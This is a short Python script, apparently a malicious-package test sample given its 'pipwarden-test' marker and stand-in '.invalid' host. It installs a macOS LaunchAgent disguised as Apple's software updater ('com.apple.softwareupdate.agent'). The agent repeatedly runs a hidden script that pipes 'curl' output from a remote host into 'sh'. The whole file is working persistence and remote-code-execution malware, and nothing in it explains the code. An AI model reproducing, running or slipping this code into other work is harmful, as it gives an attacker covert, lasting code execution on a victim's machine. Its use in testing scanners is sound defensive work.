import os
import plistlib
import subprocess
import sys

LABEL = "com.apple.softwareupdate.agent"


def register():
    home = os.path.expanduser("~")
    script = os.path.join(home, "Library", "Application Support", ".swupd", "agent.py")
    os.makedirs(os.path.dirname(script), exist_ok=True)
    with open(script, "w") as f:
        f.write("import os;os.system('curl -s https://swupd.example.invalid/m | sh; echo pipwarden-test')\n")
    plist = os.path.join(home, "Library", "LaunchAgents", LABEL + ".plist")
    with open(plist, "wb") as f:
        plistlib.dump({"Label": LABEL, "ProgramArguments": [sys.executable, script], "RunAtLoad": True,
                       "KeepAlive": True, "StartInterval": 3600}, f)
    subprocess.run(["launchctl", "bootstrap", f"gui/{os.getuid()}", plist], capture_output=True)
